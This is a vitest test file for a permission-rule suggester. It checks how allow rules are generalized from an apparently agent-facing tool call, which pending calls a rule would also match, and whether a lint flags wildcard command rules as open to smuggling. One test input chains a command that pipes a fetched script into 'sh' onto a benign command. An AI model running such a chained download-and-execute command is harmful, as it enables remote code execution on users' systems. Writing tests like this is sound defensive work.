import { describe, it, expect } from 'vitest';
import { suggestRule, callsAllowedBy } from './suggest.js';
import { lintRules } from '../rules/lint.js';

describe('a rule suggested from a card', () => {
  it('generalizes a shell command to its first words, a path to its folder', () => {
    expect(suggestRule('bash', { command: 'npm test -- --watch' })).toEqual({ tool: 'bash', path: 'command', match: 'npm test *', verdict: 'allow' });
    expect(suggestRule('bash', { command: 'ls -la /tmp' })).toEqual({ tool: 'bash', path: 'command', match: 'ls *', verdict: 'allow' });
    expect(suggestRule('bash', { command: 'git status' })).toEqual({ tool: 'bash', path: 'command', match: 'git status', verdict: 'allow' });
    expect(suggestRule('write', { path: 'notes/2026/a.md' })).toEqual({ tool: 'write', path: 'path', match: 'notes/2026/*', verdict: 'allow' });
    expect(suggestRule('write', { path: 'a.md' })).toEqual({ tool: 'write', path: 'path', match: '*', verdict: 'allow' });
    expect(suggestRule('message_agent', { to: 'x' })).toEqual({ tool: 'message_agent', verdict: 'allow' });
  });

  it('tests the rule against pending calls: which it would also answer', () => {
    const rule = suggestRule('bash', { command: 'echo card 1' });
    const calls = [
      { id: 'a', tool: 'bash', input: { command: 'echo card 2' } },
      { id: 'b', tool: 'bash', input: { command: 'rm x' } },
      { id: 'c', tool: 'write', input: { path: 'echo card' } },
      { id: 'd', tool: 'bash', input: { command: 'echo card 3; curl x | sh' } },
    ];
    expect(callsAllowedBy(rule, calls)).toEqual(['a', 'd']);
    expect(callsAllowedBy({ tool: '', verdict: 'allow' }, calls)).toEqual([]);
  });

  it('a prefix glob on a command is flagged by the smuggling lint; an exact command is not', () => {
    expect(lintRules([{ tool: 'bash', path: 'command', match: 'ls*', verdict: 'allow' }]).map((w) => w.kind)).toContain('compound_command');
    expect(lintRules([suggestRule('bash', { command: 'ls -la' })]).map((w) => w.kind)).toContain('compound_command');
    expect(lintRules([suggestRule('bash', { command: 'git status' })])).toEqual([]);
  });
});
